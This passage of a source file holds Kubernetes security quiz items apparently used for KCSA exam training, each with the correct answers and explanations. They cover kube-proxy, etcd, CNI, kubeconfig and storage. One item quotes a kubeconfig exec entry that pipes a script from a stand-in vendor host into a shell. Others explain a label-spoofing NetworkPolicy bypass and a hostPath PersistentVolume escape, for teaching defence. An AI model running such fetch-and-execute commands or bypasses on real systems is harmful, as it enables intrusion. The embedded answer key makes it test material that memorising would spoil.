        why: 'The kubelet read-only port is 10255. 10249 belongs to kube-proxy.',
      },
      {
        text: "It proves that NodePort Services are exposed on the node's management address.",
        correct: false,
        why: "NodePorts use 30000-32767 by default; this response concerns kube-proxy's own metrics listener.",
      },
    ],
    source: {to: '/docs/fundamentals/components/kube-proxy-and-cni#exposes', label: 'What they expose'},
  },
  {
    id: 'kcsa-2-kube-proxy-nodeport-addresses',
    competencies: ['KCSA-2.6'],
    kind: 'concept',
    prompt:
      'A node has a public interface, a management network and a storage network. kube-proxy runs in iptables mode with `nodePortAddresses` unset. Which statements are true? Choose all that apply.',
    options: [
      {
        text: "Every NodePort Service is reachable on all of the node's IP addresses, including the management and storage networks.",
        correct: true,
        why: 'In iptables and ipvs mode the default is all node IPs; set `nodePortAddresses` to `primary` or explicit CIDRs to narrow it.',
      },
      {
        text: 'NodePorts also answer on 127.0.0.1 by default in iptables mode, which needs the `route_localnet` sysctl.',
        correct: true,
        why: '`iptables.localhostNodePorts` defaults to true; the same sysctl was behind CVE-2020-8558. Set it to false.',
      },
      {
        text: 'In nftables mode the default would be the same.',
        correct: false,
        why: "nftables mode defaults `nodePortAddresses` to `primary` (the node's primary IPs) and does not serve NodePorts on localhost by default.",
      },
      {
        text: 'NodePorts are only reachable through a cloud load balancer.',
        correct: false,
        why: 'A NodePort opens the port on the node addresses themselves; a load balancer is just one possible client.',
      },
    ],
    source: {to: '/docs/fundamentals/components/kube-proxy-and-cni#exposes', label: 'What they expose'},
  },

  // KCSA-2.7: Pod
  {
    id: 'kcsa-2-pod-sidecar-shared',
    competencies: ['KCSA-2.7'],
    kind: 'scenario',
    prompt:
      'A Pod runs an application container (UID 10001, all capabilities dropped) and a third-party logging sidecar. `shareProcessNamespace` is not set. If the sidecar is compromised, what can it reach without any extra settings? Choose all that apply.',
    options: [
      {
        text: 'Every port the application listens on, including admin endpoints bound to 127.0.0.1',
        correct: true,
        why: 'All containers in a Pod share one network namespace, so loopback is shared too.',
      },
      {
        text: "The Pod's service account token",
        correct: true,
        why: 'The token is mounted into every container of the Pod; containers of one Pod cannot have different identities.',
      },
      {
        text: "The application's process environment through `/proc/<pid>/environ`",
        correct: false,
        why: "Without `shareProcessNamespace: true`, each container has its own PID namespace and cannot see the other's processes.",
      },
      {
        text: 'Volumes mounted only into the application container',
        correct: false,
        why: "A container sees only the volumes mounted into it. (Whoever writes the Pod spec can mount any of the Pod's volumes into the sidecar, though.)",
      },
    ],
    source: {
      to: '/docs/attack-vectors/compromised-sidecars#what-a-pod-shares-with-its-sidecars',
      label: 'What a pod shares with its sidecars',
    },
  },
  {
    id: 'kcsa-2-pod-privileged-no-escalation-invalid',
    competencies: ['KCSA-2.7'],
    kind: 'scenario',
    prompt: 'A developer applies a Pod whose only container has this security context. What happens?',
    snippet: {
      language: 'yaml',
      code: 'securityContext:\n  privileged: true\n  allowPrivilegeEscalation: false',
    },
    options: [
      {
        text: 'The API server rejects the Pod as invalid: `allowPrivilegeEscalation: false` cannot be combined with `privileged: true`.',
        correct: true,
        why: 'A privileged container can always escalate, so validation refuses the contradictory combination before admission even runs.',
      },
      {
        text: 'The Pod runs privileged but with `no_new_privs` set, which makes it safe.',
        correct: false,
        why: 'The combination is not accepted; and privileged containers have every capability and host device, so `no_new_privs` would not make them safe anyway.',
      },
      {
        text: 'The container runs unprivileged, because `allowPrivilegeEscalation: false` wins.',
        correct: false,
        why: 'Neither field overrides the other; the API rejects the spec.',
      },
      {
        text: "It depends only on the namespace's Pod Security level.",
        correct: false,
        why: 'Field validation happens regardless of Pod Security labels; even a `privileged` namespace cannot admit an invalid spec.',
      },
    ],
    source: {to: '/docs/fundamentals/primitives/security-contexts#privileges', label: 'Privileges'},
  },
  {
    id: 'kcsa-2-pod-run-as-non-root-named-user',
    competencies: ['KCSA-2.7'],
    kind: 'scenario',
    prompt:
      'A Pod sets `runAsNonRoot: true` but no `runAsUser`. Its image declares `USER nginx`. The container never starts, and its error begins: `container has runAsNonRoot and image has non-numeric user (nginx), cannot verify user is non-root`. What is the fix?',
    options: [
      {
        text: 'Set a numeric `runAsUser` (for example the UID of `nginx` in the image) in the security context.',
        correct: true,
        why: 'The kubelet can only verify a numeric UID. With `runAsUser` set, it knows the effective UID is not 0.',
      },
      {
        text: 'Remove `runAsNonRoot`, since the image user is not root anyway.',
        correct: false,
        why: 'That drops the check instead of satisfying it, and Restricted requires `runAsNonRoot: true`.',
      },
      {
        text: 'Add `allowPrivilegeEscalation: false`.',
        correct: false,
        why: 'That controls `no_new_privs`; it does not tell the kubelet which UID the process runs as.',
      },
      {
        text: 'Set `runAsUser: 0` so the kubelet can resolve the name.',
        correct: false,
        why: 'UID 0 is root; with `runAsNonRoot: true` the kubelet would refuse it outright.',
      },
    ],
    source: {to: '/docs/fundamentals/primitives/security-contexts#identity', label: 'Identity: users and groups'},
  },
  {
    id: 'kcsa-2-pod-container-only-fields',
    competencies: ['KCSA-2.7'],
    kind: 'concept',
    prompt:
      "Which security settings can be set only on a container's `securityContext`, not on the Pod's `spec.securityContext`? Choose all that apply.",
    options: [
      {
        text: '`privileged`',
        correct: true,
        why: 'Privileged mode is per container; there is no Pod-level field.',
      },
      {
        text: '`capabilities`',
        correct: true,
        why: 'Capabilities are added and dropped per container.',
      },
      {
        text: '`readOnlyRootFilesystem`',
        correct: true,
        why: 'Each container has its own root file system, so this is container-level only.',
      },
      {
        text: '`seccompProfile`',
        correct: false,
        why: 'It exists at both levels: the Pod value is the default, and a container value overrides it.',
      },
      {
        text: '`fsGroup`',
        correct: false,
        why: '`fsGroup` is Pod-level only, because volumes belong to the Pod.',
      },
    ],
    source: {
      to: '/docs/fundamentals/primitives/security-contexts#pod-vs-container',
      label: 'Pod level and container level',
    },
  },

  // KCSA-2.8: etcd
  {
    id: 'kcsa-2-etcd-ports-access',
    competencies: ['KCSA-2.8'],
    kind: 'concept',
    prompt: 'Which statements about etcd in a kubeadm cluster are true? Choose all that apply.',
    options: [
      {
        text: 'Clients use port 2379 and members replicate on 2380; only the API servers and other members need them.',
        correct: true,
        why: 'Block both ports from workers and Pods, so that a stolen certificate is useless from there.',
      },
      {
        text: 'Any client certificate signed by the CA in `--trusted-ca-file` gets full read and write access to the whole keyspace.',
        correct: true,
        why: "Kubernetes does not use etcd's role system; client certificate authentication is all-or-nothing.",
      },
      {
        text: 'Writes made directly to etcd are checked by RBAC and admission when the API server next reads them.',
        correct: false,
        why: 'The API server treats etcd contents as the truth. Direct writes skip authorization, admission and the audit log entirely.',
      },
      {
        text: 'Kubelets on worker nodes read their Pods from etcd.',
        correct: false,
        why: 'Kubelets read their Pods from the API server; only the API server talks to etcd.',
      },
    ],
    source: {to: '/docs/fundamentals/components/etcd#trusts', label: 'etcd: what it trusts'},
  },
  {
    id: 'kcsa-2-etcd-dedicated-ca',
    competencies: ['KCSA-2.8'],
    kind: 'scenario',
    prompt:
      'A self-built cluster runs etcd with `--client-cert-auth=true` and `--trusted-ca-file=/etc/kubernetes/pki/ca.crt`, the same CA the API server uses for `--client-ca-file`. Why does the CIS Benchmark flag this?',
    options: [
      {
        text: "Every certificate from the cluster CA, such as a developer's kubeconfig or a kubelet's node certificate, also opens etcd with full access; etcd needs its own CA.",
        correct: true,
        why: 'etcd accepts any certificate its trusted CA signed. kubeadm keeps a separate etcd CA (`/etc/kubernetes/pki/etcd/ca.crt`) for exactly this reason (CIS 2.7).',
      },
      {
        text: 'etcd cannot verify certificates signed by the same CA as the API server, so client authentication silently turns off.',
        correct: false,
        why: 'Verification works fine; the problem is that it succeeds for far too many certificates.',
      },
      {
        text: 'It disables encryption at rest, because the API server and etcd would share a key.',
        correct: false,
        why: 'Encryption at rest is configured in the API server with `--encryption-provider-config` and has nothing to do with the TLS CA.',
      },
      {
        text: 'It is only a problem if `--peer-client-cert-auth` is false.',
        correct: false,
        why: 'Peer settings govern member-to-member traffic; the shared CA problem is on the client port.',
      },
    ],
    source: {to: '/docs/fundamentals/components/etcd#trusts', label: 'etcd: what it trusts'},
  },
  {
    id: 'kcsa-2-etcd-plaintext-secret',
    competencies: ['KCSA-2.8'],
    kind: 'scenario',
    prompt:
      'On a control plane node you read a Secret straight from etcd with `etcdctl get /registry/secrets/shop/db | hexdump -C` and see the password `s3cr3t-pw` in the right-hand column of the excerpt below. What does this show, and what fixes it?',
    snippet: {
      language: 'text',
      code: '00000000  2f 72 65 67 69 73 74 72  79 2f 73 65 63 72 65 74  |/registry/secret|\n00000010  73 2f 73 68 6f 70 2f 64  62 0a 6b 38 73 00 0a 0c  |s/shop/db.k8s...|\n00000020  0a 02 76 31 12 06 53 65  63 72 65 74 12 8e 01 0a  |..v1...Secret...|\n...\n000000a0  08 70 61 73 73 77 6f 72  64 12 09 73 33 63 72 33  |.password..s3cr3|\n000000b0  74 2d 70 77 1a 06 4f 70  61 71 75 65 1a 00 22 00  |t-pw..Opaque..".|',
    },
    options: [
      {
        text: 'Secrets are stored unencrypted: the value follows the plain `k8s` protobuf prefix. Configure `--encryption-provider-config` on the API server (KMS v2, or `aescbc` or `secretbox`) and rewrite existing Secrets.',
        correct: true,
        why: "Encrypted objects start with `k8s:enc:<provider>:`. Encryption at rest is the API server's job; existing Secrets are only encrypted when rewritten.",
      },
      {
        text: 'The Secret is safe because etcd stores values base64-encoded.',
        correct: false,
        why: 'Base64 appears only in the JSON or YAML the API returns; in etcd the value sits as raw bytes, readable as shown.',
      },
      {
        text: "Enable etcd's `--auto-tls` to encrypt the stored data.",
        correct: false,
        why: 'TLS protects data in transit, and auto-TLS uses unverifiable self-signed certificates; neither encrypts data on disk.',
      },
      {
        text: 'Set `immutable: true` on the Secret so etcd encrypts it.',
        correct: false,
        why: 'Immutability prevents changes to the Secret; it does not encrypt anything.',
      },
    ],
    source: {to: '/docs/fundamentals/components/etcd#trusts', label: 'etcd: what it trusts'},
  },
  {
    id: 'kcsa-2-etcd-backup-kms',
    competencies: ['KCSA-2.8'],
    kind: 'scenario',
    prompt:
      "An etcd snapshot from a cluster that encrypts Secrets with the `aescbc` provider is found in a world-readable bucket, next to an image of a control plane node's disk. Why would a KMS v2 provider have protected the Secrets better here?",
    options: [
      {
        text: 'With aescbc the key sits in the EncryptionConfiguration file on the control plane node, so the disk image carries it; with KMS the key-encryption key stays in the external KMS, and decrypting needs a call you can restrict and audit.',
        correct: true,
        why: 'Envelope encryption keeps the root key outside the cluster. A stolen snapshot plus disk image is not enough without access to the KMS.',
      },
      {
        text: 'aescbc does not encrypt Secrets in snapshots; only KMS does.',
        correct: false,
        why: 'aescbc does encrypt the stored objects, and a snapshot contains them encrypted. The weakness is where its key lives.',
      },
      {
        text: 'KMS v2 also deletes snapshots older than its key rotation period.',
        correct: false,
        why: 'KMS providers only encrypt and decrypt; backup retention is up to you.',
      },
      {
        text: 'It would not matter: etcd snapshots cannot be restored outside the original cluster.',
        correct: false,
        why: '`etcdutl snapshot restore` works anywhere, so an attacker can start a throwaway etcd on the snapshot.',
      },
    ],
    source: {
      to: '/docs/fundamentals/components/etcd#reading-the-data-directory-or-a-backup',
      label: 'Reading the data directory or a backup',
    },
  },

  // KCSA-2.9: container networking (CNI)
  {
    id: 'kcsa-2-cni-flannel-no-enforcement',
    competencies: ['KCSA-2.9'],
    kind: 'scenario',
    prompt:
      'A team applies a default-deny ingress NetworkPolicy to its database namespace. `kubectl get networkpolicy` shows it, yet a Pod in another namespace can still connect to the database. The cluster runs Flannel as its only network plugin. What is going on?',
    options: [
      {
        text: 'Flannel provides connectivity but enforces no NetworkPolicy; the API server stores policies whether or not anything enforces them.',
        correct: true,
        why: 'Kubernetes itself does not enforce NetworkPolicy. Use a plugin that does (Calico, Cilium, Antrea, or Flannel paired with Calico) and prove it with a connection test.',
      },
      {
        text: 'The policy needs a few minutes to propagate to kube-proxy.',
        correct: false,
        why: 'kube-proxy does not enforce NetworkPolicy; no amount of waiting helps if the plugin ignores policies.',
      },
      {
        text: 'Default-deny policies only apply to Pods created after the policy.',
        correct: false,
        why: 'Where a plugin enforces them, policies apply to existing and new Pods alike.',
      },
      {
        text: 'The API server should have rejected the policy, so the cluster is misconfigured.',
        correct: false,
        why: 'The API server accepts NetworkPolicy objects regardless of the plugin; validation does not check enforcement.',
      },
    ],
    source: {
      to: '/docs/fundamentals/components/kube-proxy-and-cni#what-the-cni-plugin-enforces',
      label: 'What the CNI plugin enforces',
    },
  },
  {
    id: 'kcsa-2-cni-binaries-trust',
    competencies: ['KCSA-2.9'],
    kind: 'concept',
    prompt: 'Why must `/etc/cni/net.d` and `/opt/cni/bin` on every node be writable by root only?',
    options: [
      {
        text: "The container runtime executes, as root, whatever plugin binary a config file there names, inside every new Pod's network namespace.",
        correct: true,
        why: 'Since dockershim was removed the runtime (containerd or CRI-O) runs CNI plugins on every sandbox create and delete, trusting them completely.',
      },
      {
        text: 'The kubelet reads Pod IP addresses from these directories to report Pod status.',
        correct: false,
        why: 'Pod IPs reach the kubelet through the CRI from the runtime; these directories hold plugin configuration and binaries.',
      },
      {
        text: 'kube-proxy stores its iptables rules there.',
        correct: false,
        why: 'kube-proxy writes rules directly into the kernel (nftables or iptables); it does not use these directories.',
      },
      {
        text: 'They contain the cluster CA.',
        correct: false,
        why: 'The cluster CA lives under `/etc/kubernetes/pki` on kubeadm nodes.',
      },
    ],
    source: {to: '/docs/fundamentals/components/kube-proxy-and-cni#trusts', label: 'What they trust'},
  },
  {
    id: 'kcsa-2-cni-wireguard-scope',
    competencies: ['KCSA-2.9'],
    kind: 'concept',
    prompt:
      'A cluster enables WireGuard transparent encryption in its CNI plugin (Cilium or Calico). Which statements are true? Choose all that apply.',
    options: [
      {
        text: 'Pod traffic between different nodes is encrypted on the wire without application changes.',
        correct: true,
        why: 'Each node gets a key pair and Pod traffic leaving the node goes through the encrypted tunnel.',
      },
      {
        text: 'Traffic between two Pods on the same node is not encrypted by it.',
        correct: true,
        why: 'That traffic never leaves the node, so the node-to-node tunnel is not involved.',
      },
      {
        text: 'It authenticates each workload by its ServiceAccount, like a service mesh.',
        correct: false,
        why: 'WireGuard in the CNI authenticates nodes, not workloads. Workload identity with mutual TLS is what a service mesh adds.',
      },
      {
        text: 'It protects traffic from an attacker who has root on one of the nodes.',
        correct: false,
        why: 'Encryption happens on the node; root there sees traffic before it is encrypted and after it is decrypted.',
      },
    ],
    source: {
      to: '/docs/fundamentals/components/kube-proxy-and-cni#encrypting-pod-to-pod-traffic',
      label: 'Encrypting Pod-to-Pod traffic',
    },
  },
  {
    id: 'kcsa-2-cni-label-selector-bypass',
    competencies: ['KCSA-2.9'],
    kind: 'scenario',
    prompt:
      'A namespace has a NetworkPolicy (enforced by the CNI plugin) that selects the `payments` database Pods and allows ingress only `from` a `podSelector` matching `role=api`, with no `namespaceSelector`. A developer who can create and label Pods in that namespace and in their own team namespace, but cannot edit NetworkPolicies, wants to reach the database from a debugging Pod. Which of these gets around the policy?',
    options: [
      {
        text: 'Giving a debugging Pod in the database namespace the label `role=api`',
        correct: true,
        why: 'Policies select Pods by labels, so whoever controls labels controls which rules apply; no network access or policy edit is needed. RBAC cannot limit which labels a Pod creator sets, so an admission policy that reserves such labels is what closes the gap.',
      },
      {
        text: 'Giving a debugging Pod in their own team namespace the label `role=api`',
        correct: false,
        why: "A `podSelector` in a `from` rule without a `namespaceSelector` only matches Pods in the policy's own namespace, so a Pod with the same label elsewhere is still denied.",
      },
      {
        text: 'Setting a different `serviceAccountName` on the debugging Pod',
        correct: false,
        why: 'Standard NetworkPolicy matches labels, namespaces and IP blocks, not ServiceAccounts.',
      },
      {
        text: 'Adding a `readinessProbe` to the debugging Pod',
        correct: false,
        why: 'Probes have nothing to do with which NetworkPolicy rules select a Pod.',
      },
    ],
    source: {to: '/docs/fundamentals/components/kube-proxy-and-cni#trusts', label: 'What they trust'},
  },

  // KCSA-2.10: client security
  {
    id: 'kcsa-2-client-kubeconfig-exec-risk',
    competencies: ['KCSA-2.10'],
    kind: 'scenario',
    prompt:
      'A vendor emails a "cluster access file" whose `users` entry contains `exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, args: ["-c", "curl -s https://vendor.example/setup | sh"], interactiveMode: Never}`. A developer saves it as `~/.kube/config`. What happens at the next `kubectl get pods`?',
    options: [
      {
        text: "kubectl runs the command on the developer's machine to get a credential, so the downloaded script executes with the developer's rights.",
        correct: true,
        why: 'An exec plugin is any program the kubeconfig names. Read `users[].user.exec` before using a kubeconfig you did not write, and consider a credential plugin allowlist in `kuberc`.',
      },
      {
        text: 'kubectl refuses, because exec plugins must be signed by the cluster CA.',
        correct: false,
        why: "There is no signature check on exec commands; the user's client simply runs them.",
      },
      {
        text: 'The command runs on the API server, which sandboxes it.',
        correct: false,
        why: 'Exec plugins run locally in the client, never on the server.',
      },
      {
        text: 'Nothing happens until the user runs `kubectl config use-context`.',
        correct: false,
        why: "The file's `current-context` is used by default, so the plugin runs at the first command that needs a credential.",
      },
    ],
    source: {
      to: '/docs/fundamentals/authentication/kubeconfig-and-client-credentials#exec-plugins',
      label: 'Exec credential plugins',
    },
  },
  {
    id: 'kcsa-2-client-kubeconfig-merge',
    competencies: ['KCSA-2.10'],
    kind: 'scenario',
    prompt:
      'A user sets `KUBECONFIG=$HOME/.kube/prod.yaml:$HOME/.kube/staging.yaml`. Both files define a user entry named `admin` with different credentials, and `staging.yaml` sets `current-context: staging`, while `prod.yaml` sets `current-context: prod`. Which statements are true? Choose all that apply.',
    options: [
      {
        text: 'The current context is `prod`, because the first file that sets a value wins.',
        correct: true,
        why: 'When files are merged, later files never override values set by earlier ones, both for `current-context` and for entries with the same name.',
      },
      {
        text: 'Every context that names user `admin` uses the credentials from `prod.yaml`; the staging `admin` entry is silently ignored.',
        correct: true,
        why: 'Same-named entries are taken from the first file. This is why distinct user names per cluster matter.',
      },
      {
        text: 'kubectl refuses to run because of the duplicate user name.',
        correct: false,
        why: 'Merging is silent; there is no error for duplicate names.',
      },
      {
        text: 'The last file in the list wins, so the context is `staging`.',
        correct: false,
        why: 'The first file wins, not the last.',
      },
    ],
    source: {
      to: '/docs/fundamentals/authentication/kubeconfig-and-client-credentials#locations',
      label: 'Where kubeconfig files live and how they merge',
    },
  },
  {
    id: 'kcsa-2-client-insecure-skip-tls',
    competencies: ['KCSA-2.10'],
    kind: 'concept',
    prompt:
      'A kubeconfig connects to the API server by IP address, and the server certificate does not list that IP. Someone "fixes" it with `insecure-skip-tls-verify: true` on the cluster entry. What is the risk, and the right fix?',
    options: [
      {
        text: 'Anyone who can intercept the connection can impersonate the API server and capture the bearer token; set `tls-server-name` to a name the certificate does contain.',
        correct: true,
        why: 'Skipping verification removes server authentication. `tls-server-name` keeps verification but checks the name you give instead of the connection address.',
      },
      {
        text: 'There is no risk, because the client certificate still authenticates the user.',
        correct: false,
        why: 'Client authentication proves who the user is to the server; it does not prove the server is genuine, and a bearer token sent to an impostor can be replayed.',
      },
      {
        text: 'The API server rejects clients that skip verification.',
        correct: false,
        why: 'The server cannot tell whether the client verified its certificate.',
      },
      {
        text: 'The right fix is to disable TLS and use plain HTTP on port 8080.',
        correct: false,
        why: 'The API server has no plain HTTP listener since insecure serving was removed in v1.20.',
      },
    ],
    source: {
      to: '/docs/fundamentals/authentication/kubeconfig-and-client-credentials#structure',
      label: 'Structure of a kubeconfig',
    },
  },
  {
    id: 'kcsa-2-client-credential-types',
    competencies: ['KCSA-2.10'],
    kind: 'concept',
    prompt:
      "An attacker copies a developer's kubeconfig file. For which credential types does the copy alone give the attacker working access to the API server? Choose all that apply.",
    options: [
      {
        text: 'An embedded client certificate and key (`client-certificate-data`, `client-key-data`)',
        correct: true,
        why: 'It works from anywhere until it expires and cannot be revoked individually.',
      },
      {
        text: 'A static or legacy service account `token`',
        correct: true,
        why: 'A bearer token works for whoever presents it, until it expires or, for legacy tokens, until its Secret is deleted.',
      },
      {
        text: 'An `exec` entry that runs an OIDC login plugin',
        correct: false,
        why: "The file holds no secret, only the command; the attacker would also need the plugin's cached tokens or the user's login.",
      },
      {
        text: '`username` and `password` fields',
        correct: false,
        why: 'kube-apiserver removed HTTP basic authentication in v1.19, so these fields no longer authenticate.',
      },
    ],
    source: {
      to: '/docs/fundamentals/authentication/kubeconfig-and-client-credentials#credential-types',
      label: 'Credential types',
    },
  },

  // KCSA-2.11: storage
  {
    id: 'kcsa-2-storage-pv-side-door',
    competencies: ['KCSA-2.11'],
    kind: 'scenario',
    prompt:
      'A namespace enforces the Restricted Pod Security level. A user there may also create PersistentVolumes. They create a PV with `hostPath: {path: /}`, a PVC that binds to it, and a Pod that mounts the PVC. What happens?',
    options: [
      {
        text: "The Pod is admitted and mounts the node's root file system, because Pod Security only sees a `persistentVolumeClaim` volume, which every level allows.",
        correct: true,
        why: 'Whoever creates PVs decides what a claim really mounts. That is why creating PersistentVolumes is an administrator privilege (CIS 5.1.9).',
      },
      {
        text: 'Pod Security Admission follows the PVC to the PV and rejects the Pod.',
        correct: false,
        why: 'Pod Security checks the Pod spec only; it does not look up the PV behind a claim.',
      },
      {
        text: 'The API server refuses to create hostPath PersistentVolumes.',
        correct: false,
        why: 'hostPath is a valid PV type; limiting it takes RBAC on `persistentvolumes` or an admission policy that rejects such PVs.',
      },
      {
        text: 'The Pod runs, but the hostPath is always mounted read-only.',
        correct: false,
        why: 'Nothing forces a hostPath PV to be read-only; the access mode and mount decide.',
      },
    ],
    source: {
      to: '/docs/fundamentals/components/storage#persistent-volumes-as-a-side-door',
      label: 'Persistent volumes as a side door',
    },
  },
  {
    id: 'kcsa-2-storage-rwo-per-node',
    competencies: ['KCSA-2.11'],
    kind: 'concept',
    prompt:
      "A volume holds one tenant's data and must be mounted by a single Pod only. Which access mode guarantees that?",
    options: [
      {
        text: '`ReadWriteOncePod`',
        correct: true,
        why: 'It restricts the volume to one Pod in the whole cluster; GA since v1.29 for CSI volumes.',
      },
      {
        text: '`ReadWriteOnce`',
        correct: false,
        why: 'ReadWriteOnce means one node, not one Pod: other Pods scheduled to the same node can mount it too.',
      },
      {
        text: '`ReadOnlyMany`',
        correct: false,
        why: 'It allows many nodes to mount the volume read-only, sharing the data widely.',
      },
      {
        text: '`ReadWriteMany`',
        correct: false,
        why: 'It allows read-write mounts from many nodes at once.',
      },
    ],
    source: {
      to: '/docs/fundamentals/components/storage#access-modes-and-reclaim-policies',
      label: 'Access modes and reclaim policies',
    },
  },
  {
    id: 'kcsa-2-storage-volume-encryption',
    competencies: ['KCSA-2.11', 'KCSA-2.8'],
    kind: 'scenario',
    prompt:
      "A compliance auditor asks how data on persistent volumes is encrypted. The cluster's API server has an `--encryption-provider-config` with a KMS v2 provider, and the storage class is shown below. Which statements are true? Choose all that apply.",
    example: 'components/storageclass-encrypted-retain.yaml',
    options: [
      {
        text: 'Volume data is encrypted by the CSI driver and the storage backend, using the encryption parameters and key in the StorageClass.',
        correct: true,
        why: 'Kubernetes never sees the bytes on a volume; it only passes parameters to the driver, which asks the backend to encrypt.',
      },
      {
        text: "The API server's encryption configuration protects objects such as Secrets in etcd, not the contents of persistent volumes.",
        correct: true,
        why: 'Encryption at rest in the API server covers API objects it writes to etcd; volumes are outside its reach.',
      },
      {
        text: 'The KMS v2 provider in the API server also encrypts every persistent volume.',
        correct: false,
        why: 'The API server has no access to volume data; each driver and backend handles that.',
      },
      {
        text: 'With `reclaimPolicy: Retain`, the data is deleted when the claim is deleted.',
        correct: false,
        why: 'Retain keeps the volume and its data after the claim is gone (the PV becomes Released); Delete removes the backend volume.',
      },
    ],
    source: {to: '/docs/fundamentals/components/storage#trusts', label: 'Storage: what it trusts'},
  },
  {
    id: 'kcsa-2-storage-retain-reuse',
    competencies: ['KCSA-2.11'],
    kind: 'scenario',
    prompt:
      "Tenant A deletes its PVC; the PV has `reclaimPolicy: Retain` and moves to Released. To save storage, an administrator clears the PV's `claimRef`, and a new claim from tenant B binds to it. What is the risk, and the right practice?",
    options: [
      {
        text: "Tenant B can read tenant A's old data; scrub or destroy a retained volume before it is reused.",
        correct: true,
        why: 'Retain keeps the data intact. Clearing `claimRef` makes the PV Available again with that data on it.',
      },
      {
        text: 'None: Kubernetes wipes a volume when its `claimRef` is cleared.',
        correct: false,
        why: 'Nothing wipes data on a retained volume. The deprecated Recycle policy did a basic `rm -rf` but must not be relied on.',
      },
      {
        text: 'The new claim fails, because Released PVs can never be bound again.',
        correct: false,
        why: 'A Released PV is not rebound automatically, but once an administrator clears `claimRef` it can bind to a new claim.',
      },
      {
        text: 'Switching the PV to `ReadWriteOncePod` prevents tenant B from seeing the data.',
        correct: false,
        why: 'The access mode limits concurrent mounts, not who gets the data when the volume is reused.',
      },
    ],
    source: {
      to: '/docs/fundamentals/components/storage#access-modes-and-reclaim-policies',
      label: 'Access modes and reclaim policies',
    },
  },
  {
    id: 'kcsa-2-storage-hostpath-pss',
    competencies: ['KCSA-2.11'],
    kind: 'scenario',
    prompt: 'A log collector is deployed as this Pod. Which statements are true? Choose all that apply.',
    example: 'components/baseline-fails-hostpath-volume.yaml',
    options: [
      {
        text: 'It fails the Baseline Pod Security level, so a namespace enforcing Baseline or Restricted rejects it.',
        correct: true,
        why: 'hostPath volumes are allowed only at the Privileged level.',
      },
      {
        text: "Mounting `/` lets it read the kubelet's credentials and other Pods' Secrets under `/var/lib/kubelet/pods`.",
        correct: true,
        why: "Secret volumes live on tmpfs under the kubelet's Pod directories, readable through the host root mount; reading credentials is the attack, so `readOnly` helps little.",
      },
      {
        text: 'It passes Restricted as long as the mount is `readOnly: true`.',
        correct: false,
        why: 'Pod Security forbids the hostPath volume type itself, whatever the mount options.',
      },
    ],
    source: {to: '/docs/fundamentals/components/storage#hostpath-and-friends', label: '`hostPath` and friends'},
    claims: [
      {file: 'components/baseline-fails-hostpath-volume.yaml', pss: 'baseline', passes: false},
      {file: 'components/baseline-fails-hostpath-volume.yaml', pss: 'restricted', passes: false},
    ],
  },
];
